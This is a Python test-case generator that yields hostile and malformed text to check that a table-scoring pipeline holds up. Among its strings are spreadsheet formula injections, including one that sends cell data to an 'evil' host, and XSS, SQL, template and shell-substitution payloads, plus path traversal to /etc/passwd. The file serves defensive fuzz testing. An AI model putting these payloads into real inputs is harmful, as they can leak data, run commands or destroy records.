"""Texts that break tables, terminals, spreadsheets, tokenizers or patience."""

from __future__ import annotations

import sys
from collections.abc import Iterator

import numpy as np

from hostile.cases import CellCase, Expected

#: What is seen of a text: it is scored, or its row has an error.
_READ: Expected = "read"


def text_cases(seed: int, *, longest: int = 10_000_000) -> Iterator[CellCase]:
    """Yield hostile texts, each once; the longest have that many characters."""
    for kind, texts in (
        ("control characters", _controls()), ("lone surrogates", _surrogates()), ("direction", _directions()),
        ("piled marks", _marks(longest)), ("zero width", _zero_width()), ("very long", _long(longest)),
        ("formula", _formulas()), ("injection", _injections()), ("tokens", _tokens()),
        ("every plane", _planes(seed)), ("normal forms", _forms(longest)), ("other types", _types()),
    ):  # fmt: skip
        for number, (expected, value) in enumerate(texts):
            yield CellCase(f"{kind.replace(' ', '-')}-{number}", f"text: {kind}", expected, value)


def random_texts(seed: int, count: int) -> Iterator[CellCase]:
    """Yield texts of random code points, from every plane, halves of characters among them."""
    dice = np.random.default_rng(seed)
    for number in range(count):
        top = int(dice.choice([0x80, 0x800, 0x10000, sys.maxunicode + 1]))
        points = dice.integers(0, top, size=int(dice.integers(1, 300)))
        yield CellCase(f"random-{number:06}", "text: random", "either", "".join(map(chr, points.tolist())))


Texts = Iterator[tuple[Expected, object]]


def _controls() -> Texts:
    for text in ("\0", "a\0b", "\0" * 10_000, "".join(map(chr, range(32))), "\x1b[2J\x1b[31mred", "\x1b]0;title\x07",
                 "\x7f\x80\x85\x9b31m", "a\rb\r\nc\nd", "\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029", "\b" * 200,
                 "\x1b]8;;http://evil\x1b\\here\x1b]8;;\x1b\\", "\u0090\u009c", "\ufffe\uffff\ufdd0"):  # fmt: skip
        yield _READ if any(char.isprintable() for char in text) else "either", text


def _surrogates() -> Texts:
    yield from (("either", "\ud800"), (_READ, "a\udfffb"), ("either", "\udc00\ud800"), (_READ, "\ud83d\ude00 pair"),
                (_READ, "x" * 1_000 + "\ud83d"))  # fmt: skip


def _directions() -> Texts:
    for text in ("\u202eevil\u202c good", "\u2066\u2067\u2068deep\u2069", "abc\u202egpj.exe", "\u200f\u200e\u061c mark",
                 "\u202a" * 5_000 + "deep", "שלום world مرحبا", "\u2067/*\u2069 x"):  # fmt: skip
        yield _READ, text


def _marks(longest: int) -> Texts:
    yield _READ, "Z" + "\u0300\u0315\u0327\u0489" * 60 + "algo"
    yield _READ, "".join(letter + "\u0336\u035c\u0361" * 20 for letter in "zalgo text")
    # Sorting marks into their order takes time that grows with the square of their number.
    for count in (2_000, 50_000, longest // 10):
        yield "either", "a" + "\u0315\u0300" * (count // 2)


def _zero_width() -> Texts:
    for text in ("g\u200bo\u200co\u200dd", "\u200b", "\u200b" * 100_000, "\ufeffgood", "\u2060\u180e\u00ad", "a" + "\ufe0f" * 5_000,
                 "good\U000e0067\U000e006f\U000e007f", "\u3164\uffa0\u115f", "\u200d".join("good bad")):  # fmt: skip
        yield "either", text


def _long(longest: int) -> Texts:
    yield _READ, "word " * (longest // 5)
    yield _READ, "x" * longest
    yield _READ, "\U0001f600" * (longest // 10)
    yield _READ, " " * (longest // 2) + "good"
    yield _READ, "\n" * (longest // 4) + "good"
    yield _READ, "漢字" * (longest // 20)
    yield _READ, "!" * (longest // 10)
    yield _READ, "a-" * (longest // 20)


def _formulas() -> Texts:
    for text in ("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil?x="&A1,"click")', "+1-1", "-2+3", "@SUM(A1:A9)",
                 "\t=1", "\r=1", ";=1", '",=1,"', "=\n1", "%0A=1", "＝1+1", '=IMPORTXML("http://evil","//a")', "DDE(\"cmd\")"):  # fmt: skip
        yield _READ, text


def _injections() -> Texts:
    for text in ("<script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>", "{{7*7}}${7*7}<%= 7*7 %>", "'; DROP TABLE posts;--",
                 "[bold red]x[/bold red] [/nothing]", "[link=http://evil]x[/link]", "%s%n%x %(a)s {0.__class__}", "../../../etc/passwd",
                 "$(touch /tmp/owned) `id`", "\\", "\\u0000", '"', '""', "'", ",", ";", "|", "||", "a|b", "NaN", "nan", "null", "None", "NA", "<NA>",
                 "true", "1e400", "0x1F", "1_000", "-0", "Infinity", "[]", "{}", '["a"]', "file:///etc/passwd", "javascript:alert(1)",
                 "data:text/html,<script>alert(1)</script>", "http://[::1", "%", "%%%", "\N{LATIN SMALL LETTER DOTLESS I}\N{LATIN CAPITAL LETTER I WITH DOT ABOVE}"):  # fmt: skip
        yield _READ, text


def _tokens() -> Texts:
    for text in (
        "[CLS] [SEP] [PAD] [MASK] [UNK]",
        "<s></s><pad><unk><mask>",
        "<|endoftext|>",
        "[PAD]" * 5_000,
        "##a ##b",
        "[unused1]",
        "▁ ▁▁",
        "Ġ Ċ",
    ):
        yield _READ, text


def _planes(seed: int) -> Texts:
    dice = np.random.default_rng(seed)
    for plane in range(17):
        points = plane * 0x10000 + dice.integers(0, 0x10000, size=400)
        text = "".join(chr(point) for point in points.tolist() if not 0xD800 <= point < 0xE000)
        yield "either" if plane in (14, 15, 16) else _READ, text


def _forms(longest: int) -> Texts:
    for text in ("e\u0301", "\u212b\u2126\ufb01\u017f", "\uac00\u1100\u1161", "\ufdfa" * (longest // 1_000), "\u1e9b\u0323", "İ" * 999, "ß" * 999,
                 "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 999):  # fmt: skip
        yield _READ, text


def _types() -> Texts:
    """Yield what a text should not be, as JSON can hold it."""
    nested: object = "x"
    for _ in range(200):
        nested = [nested]
    for value in (["a", "b"], {"a": 1}, [], [[]], nested, {"bytes": "x"}, [None], [1]):
        yield "either" if value == [] else "named", value
    for number in (0, -1, 1.5, True, False, 10**30, 1e308):
        yield _READ, number
    yield from (("either", nothing) for nothing in (None, "", "   "))  # the image counts, if there is one
